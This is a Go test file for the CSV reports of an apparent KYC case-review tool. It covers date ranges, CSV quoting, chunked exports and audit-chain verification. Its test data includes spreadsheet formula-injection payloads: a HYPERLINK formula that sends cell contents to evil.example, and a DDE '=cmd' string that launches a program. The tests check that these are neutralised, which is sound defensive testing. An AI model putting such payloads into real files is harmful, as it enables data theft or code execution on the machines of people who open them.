package report_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/kycdesk/kycdesk/internal/audit"
	"github.com/kycdesk/kycdesk/internal/cases"
	"github.com/kycdesk/kycdesk/internal/errs"
	"github.com/kycdesk/kycdesk/internal/report"
	"github.com/kycdesk/kycdesk/internal/report/reporttest"
	"github.com/kycdesk/kycdesk/internal/testkit"
)

var day = time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC)

func TestParseRange(t *testing.T) {
	now := time.Date(2026, 11, 30, 23, 59, 0, 0, time.UTC)
	tests := []struct {
		from, to, want, wantErr string
	}{
		{"", "", "2026-11-01..2026-11-30", ""},
		{"2026-11-05", "2026-11-05", "2026-11-05..2026-11-05", ""},
		{"2026-10-01", "", "2026-10-01..2026-11-30", ""},
		{"", "2026-01-31", "2026-01-02..2026-01-31", ""},
		{"2026-11-06", "2026-11-05", "", "The from date (2026-11-06) is after the to date (2026-11-05)"},
		{"05/11/2026", "", "", "The from date must be a date as YYYY-MM-DD"},
		{"", "2026-02-30", "", "The to date must be a date as YYYY-MM-DD"},
		{"2026-11-01T00:00:00Z", "", "", "The from date must be"},
	}
	for _, tt := range tests {
		r, err := report.ParseRange(tt.from, tt.to, now)
		switch {
		case tt.wantErr != "":
			if errs.Code(err) != errs.Invalid || !strings.HasPrefix(errs.Message(err), tt.wantErr) {
				t.Errorf("%q..%q: %v, want %q", tt.from, tt.to, err, tt.wantErr)
			}
		case err != nil || r.FirstDay()+".."+r.LastDay() != tt.want || r.To.Sub(r.From)%(24*time.Hour) != 0:
			t.Errorf("%q..%q = %v..%v, %v; want %s", tt.from, tt.to, r.From, r.To, err, tt.want)
		}
	}
}

// sink is an HTTP response in miniature: a buffered writer over a buffer.
type sink struct {
	buf bytes.Buffer
	*bufio.Writer
}

func newSink() *sink { s := &sink{}; s.Writer = bufio.NewWriter(&s.buf); return s }

// export runs report name and reads it back with encoding/csv (strict: every record has
// as many fields as the header), returning the header and the records.
func export(t *testing.T, rp *report.Reporter, name string, r report.Range) ([]string, [][]string) {
	t.Helper()
	s := newSink()
	n, err := rp.Write(context.Background(), name, r, s)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	body := s.buf.Bytes()
	if !bytes.HasPrefix(body, []byte("\xef\xbb\xbf")) {
		t.Fatalf("%s: no UTF-8 byte order mark: %q", name, body[:min(10, len(body))])
	}
	recs, err := csv.NewReader(bytes.NewReader(body[3:])).ReadAll()
	if err != nil {
		t.Fatalf("%s: not RFC 4180 CSV: %v\n%s", name, err, body)
	}
	if int64(len(recs)-1) != n {
		t.Fatalf("%s: %d records, Write said %d", name, len(recs)-1, n)
	}
	return recs[0], recs[1:]
}

// col returns the record's cell under the header's name.
func col(header, rec []string, name string) string {
	for i, h := range header {
		if h == name {
			return rec[i]
		}
	}
	panic("no column " + name)
}

// Names that a spreadsheet would run, break a naive CSV, or lose without UTF-8.
var hardNames = []string{
	`=HYPERLINK("http://evil.example/?q="&A1,"click")`, "+84 912 345 678", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rCarriage",
	"Lê, Văn Tám", `Trần "Bé" Na`, "Phạm\nThị\r\nHoa", "Nguyễn Thu Hương", "'already quoted", "plain",
}

func TestCasesReportHardNames(t *testing.T) {
	d, sealer := testkit.Store(t)
	g := reporttest.NewIngest(t, d, sealer, "acme, \"vn\"", day)
	ids := map[string]string{}
	for i, name := range hardNames {
		g.Now = day.Add(time.Duration(i) * time.Minute)
		ids[name] = g.Case(t, "vrf-"+string(rune('a'+i)), name, []string{"low", "medium", "high"}[i%3])
	}
	g.Now = day.AddDate(0, 0, -1) // the day before the range
	g.Case(t, "vrf-before", "Out Of Range", "low")
	g.Now = day.AddDate(0, 0, 1) // the day after
	g.Case(t, "vrf-after", "Out Of Range", "low")
	// "plain" is high risk: a lead's approval, then another lead's second approval.
	lee, lan := reporttest.Reviewer(t, d, "lee@example.com", cases.RoleLead), reporttest.Reviewer(t, d, "lan@example.com", cases.RoleLead)
	plainID := ids["plain"]
	g.At(t, day.Add(time.Hour), func(ctx context.Context, s *cases.Store) (*cases.Case, error) {
		return s.Claim(ctx, plainID, 0, lee)
	})
	g.At(t, day.Add(2*time.Hour), func(ctx context.Context, s *cases.Store) (*cases.Case, error) {
		return s.Decide(ctx, cases.DecisionInput{CaseID: plainID, By: lee, Decision: "approve", ReasonCode: "verified"})
	})
	g.At(t, day.Add(2*time.Hour), func(ctx context.Context, s *cases.Store) (*cases.Case, error) {
		return s.SecondApproval(ctx, plainID, 0, lan, "approve", "")
	})

	rp := &report.Reporter{Read: d.Read, Now: func() time.Time { return day.Add(10 * 24 * time.Hour) }}
	r, _ := report.ParseRange("2026-11-20", "2026-11-20", day)
	header, recs := export(t, rp, "cases", r)
	want := "reference,provider,integration,applicant_name,risk,status,result,assignee,created_at,first_decided_at,decision,reason_code,sla_due,sla_breached"
	if strings.Join(header, ",") != want {
		t.Fatalf("header %v", header)
	}
	if len(recs) != len(hardNames) {
		t.Fatalf("%d rows, want %d (the range's cases only)", len(recs), len(hardNames))
	}
	for i, rec := range recs {
		// Ingestion trims the name (a leading tab or CR goes there); the report must
		// give back what is stored.
		var name string
		if err := d.Read.QueryRow(`SELECT full_name FROM cases WHERE reference = ?`, col(header, rec, "reference")).Scan(&name); err != nil {
			t.Fatal(err)
		}
		name = strings.ReplaceAll(name, "\r\n", "\n") // RFC 4180 readers normalise a quoted CRLF
		got := col(header, rec, "applicant_name")
		if got != report.Neutralize(name) {
			t.Errorf("row %d: name %q, want %q", i, got, report.Neutralize(name))
		}
		if strings.ContainsAny(got[:1], "=+-@\t\r") {
			t.Errorf("row %d: %q still begins like a formula", i, got)
		}
		if col(header, rec, "integration") != `acme, "vn"` || col(header, rec, "provider") != "generic" {
			t.Errorf("row %d: integration %q", i, col(header, rec, "integration"))
		}
		if at := col(header, rec, "created_at"); at != day.Add(time.Duration(i)*time.Minute).Format("2006-01-02T15:04:05.000Z") {
			t.Errorf("row %d: created_at %q", i, at)
		}
	}
	plain := recs[len(recs)-1]
	if col(header, plain, "decision") != "approve" || col(header, plain, "reason_code") != "verified" || col(header, plain, "status") != "approved" ||
		col(header, plain, "first_decided_at") != "2026-11-20T11:00:00.000Z" || col(header, plain, "sla_breached") != "no" {
		t.Errorf("decided case: %v", plain)
	}
	// Ten days on, an undecided case is past any default SLA.
	if col(header, recs[0], "sla_breached") != "yes" || col(header, recs[0], "decision") != "" || col(header, recs[0], "sla_due") == "" {
		t.Errorf("undecided case: %v", recs[0])
	}
	counts, err := rp.Counts(context.Background(), r)
	if err != nil || counts["cases"] != int64(len(hardNames)) {
		t.Errorf("Counts = %v, %v", counts, err)
	}
}

func TestDecisionsAndSLAReports(t *testing.T) {
	d, sealer := testkit.Store(t)
	g := reporttest.NewIngest(t, d, sealer, "acme", day)
	a, b, c := g.Case(t, "vrf-a", "A", "low"), g.Case(t, "vrf-b", "B", "high"), g.Case(t, "vrf-c", "C", "medium")
	ana, lee := reporttest.Reviewer(t, d, "ana@example.com", cases.RoleAnalyst), reporttest.Reviewer(t, d, "lee@example.com", cases.RoleLead)
	act := func(after time.Duration, fn func(ctx context.Context, s *cases.Store) (*cases.Case, error)) {
		t.Helper()
		g.At(t, day.Add(after), fn)
	}
	decide := func(after time.Duration, caseID string, by cases.Actor, decision, reason, comment string) {
		t.Helper()
		act(after, func(ctx context.Context, s *cases.Store) (*cases.Case, error) {
			return s.Decide(ctx, cases.DecisionInput{CaseID: caseID, By: by, Decision: decision, ReasonCode: reason, Comment: comment})
		})
	}
	for _, id := range []string{a, b, c} {
		act(time.Minute, func(ctx context.Context, s *cases.Store) (*cases.Case, error) { return s.Claim(ctx, id, 0, ana) })
	}
	decide(time.Hour, a, ana, "approve", "verified", "-see the note")
	act(2*time.Hour, func(ctx context.Context, s *cases.Store) (*cases.Case, error) {
		return s.Escalate(ctx, b, 0, ana, "=cmd|' /C calc'!A0")
	})
	decide(5*time.Hour, b, lee, "reject", "document_fake", "Ảnh giả, rõ ràng")
	decide(3*time.Hour, c, ana, "approve", "verified", "")
	rp := &report.Reporter{Read: d.Read, Now: func() time.Time { return day.Add(72 * time.Hour) }}
	r, _ := report.ParseRange("2026-11-20", "2026-11-20", day)

	header, recs := export(t, rp, "decisions", r)
	if len(recs) != 4 {
		t.Fatalf("%d decision rows", len(recs))
	}
	esc := recs[1]
	if col(header, esc, "reference") != "vrf-b" || col(header, esc, "comment") != "'=cmd|' /C calc'!A0" || col(header, esc, "kind") != "escalation" ||
		col(header, esc, "time_to_decision_s") != "7200" || col(header, esc, "at") != "2026-11-20T11:00:00.000Z" {
		t.Errorf("escalation row: %v", esc)
	}
	if col(header, recs[3], "comment") != "Ảnh giả, rõ ràng" || col(header, recs[3], "actor") != "lee@example.com" {
		t.Errorf("rejection row: %v", recs[3])
	}
	if col(header, recs[0], "comment") != "'-see the note" {
		t.Errorf("a comment beginning with a minus: %q", col(header, recs[0], "comment"))
	}

	header, recs = export(t, rp, "sla", r)
	if len(recs) != 3+2 {
		t.Fatalf("%d sla rows: %v", len(recs), recs)
	}
	// vrf-b is high risk (4 h SLA) and was rejected after 5 h; the others in time.
	for i, breached := range []string{"no", "yes", "no"} {
		rec := recs[i]
		if col(header, rec, "section") != "case" || col(header, rec, "sla_breached") != breached || col(header, rec, "decided_at") == "" {
			t.Errorf("case row %v, want breached %s", rec, breached)
		}
	}
	anaRow, leeRow := recs[3], recs[4]
	if col(header, anaRow, "analyst") != "ana@example.com" || col(header, anaRow, "decisions") != "3" || col(header, anaRow, "approved") != "2" ||
		col(header, anaRow, "escalated") != "1" || col(header, anaRow, "median_time_to_decision_s") != "7200" {
		t.Errorf("ana: %v", anaRow)
	}
	if col(header, leeRow, "analyst") != "lee@example.com" || col(header, leeRow, "rejected") != "1" || col(header, leeRow, "median_time_to_decision_s") != "18000" {
		t.Errorf("lee: %v", leeRow)
	}
	counts, err := rp.Counts(context.Background(), r)
	if err != nil || counts["decisions"] != 4 || counts["sla"] != 5 {
		t.Errorf("Counts = %v, %v", counts, err)
	}
}

// TestAuditReportVerifies: the audit export is a contiguous run of the chain whose rows
// can be checked from the file alone (hash recomputed, prev_hash linked).
func TestAuditReportVerifies(t *testing.T) {
	d, sealer := testkit.Store(t)
	g := reporttest.NewIngest(t, d, sealer, "acme", day)
	for i, name := range hardNames {
		g.Now = day.Add(time.Duration(i) * time.Minute)
		g.Case(t, "=vrf-"+string(rune('a'+i)), name, "low")
	}
	rp := &report.Reporter{Read: d.Read, Now: func() time.Time { return day }}
	r, _ := report.ParseRange("2026-11-20", "2026-11-20", day)
	header, recs := export(t, rp, "audit", r)
	if strings.Join(header, ",") != "seq,at,actor,action,subject,details,prev_hash,hash" || len(recs) < len(hardNames) {
		t.Fatalf("header %v, %d rows", header, len(recs))
	}
	undo := func(s string) string {
		if strings.HasPrefix(s, "'") {
			return s[1:]
		}
		return s
	}
	var prev string
	for i, rec := range recs {
		var seq int64
		for _, ch := range rec[0] {
			seq = seq*10 + int64(ch-'0')
		}
		c := make([]string, 8)
		for j := range rec {
			c[j] = undo(rec[j])
		}
		if audit.EntryHash(seq, c[1], c[2], c[3], c[4], c[5], c[6]) != c[7] {
			t.Fatalf("row %d (seq %d): hash does not match its columns", i, seq)
		}
		if i > 0 && c[6] != prev {
			t.Fatalf("row %d: prev_hash does not link", i)
		}
		prev = c[7]
	}
	counts, _ := rp.Counts(context.Background(), r)
	if counts["audit"] != int64(len(recs)) {
		t.Errorf("Counts audit = %d, export has %d", counts["audit"], len(recs))
	}
	// A day with nothing: a header and no rows.
	empty, _ := report.ParseRange("2020-01-01", "2020-01-01", day)
	if _, recs := export(t, rp, "audit", empty); len(recs) != 0 {
		t.Errorf("%d rows on an empty day", len(recs))
	}
}

// TestCasesReportChunks: the cases report is read in chunks by several workers; every case
// of the range comes out once, in order, however many share a created_at across a chunk
// boundary, and none from outside the range.
func TestCasesReportChunks(t *testing.T) {
	d := testkit.DB(t)
	ctx := context.Background()
	at := time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)
	if err := reporttest.BulkCases(ctx, d, 9000, at, 0); err != nil { // 9,000 cases in the same millisecond
		t.Fatal(err)
	}
	if err := reporttest.BulkCases(ctx, d, 3000, at.Add(-time.Hour), 30*time.Millisecond); err != nil { // the hour before, and on
		t.Fatal(err)
	}
	if err := reporttest.BulkCases(ctx, d, 10, at.AddDate(0, 0, 1), time.Minute); err != nil { // the next day
		t.Fatal(err)
	}
	rp := &report.Reporter{Read: d.Read, Now: func() time.Time { return at }}
	r, _ := report.ParseRange("2026-11-20", "2026-11-20", at)
	header, recs := export(t, rp, "cases", r)
	// The hour before is the previous day: 3,000 × 30 ms = 90 s from 23:00, all before midnight.
	if len(recs) != 9000 {
		t.Fatalf("%d rows, want 9000", len(recs))
	}
	seen := map[string]bool{}
	for i, rec := range recs {
		ref := col(header, rec, "reference")
		if seen[ref] {
			t.Fatalf("row %d: %s twice", i, ref)
		}
		seen[ref] = true
		if col(header, rec, "created_at") != "2026-11-20T00:00:00.000Z" {
			t.Fatalf("row %d: %v", i, rec)
		}
	}
	r, _ = report.ParseRange("2026-11-19", "2026-11-21", at)
	header, recs = export(t, rp, "cases", r)
	if len(recs) != 12010 {
		t.Fatalf("%d rows over three days, want 12010", len(recs))
	}
	// While deliveries arrive fast the workers rest after each chunk (Busy is asked once a
	// chunk), and the rows are the same.
	var asked atomic.Int64
	restful := &report.Reporter{Read: d.Read, Now: rp.Now, Busy: func() bool { asked.Add(1); return true }}
	_, rested := export(t, restful, "cases", r)
	if n := asked.Load(); n < 12010/4096 {
		t.Errorf("Busy asked %d times over %d rows, want once a chunk", n, len(rested))
	}
	if !slices.EqualFunc(recs, rested, slices.Equal) {
		t.Error("the export while busy differs from the one without")
	}
	for i := 1; i < len(recs); i++ {
		if col(header, recs[i], "created_at") < col(header, recs[i-1], "created_at") {
			t.Fatalf("row %d out of order", i)
		}
	}
}
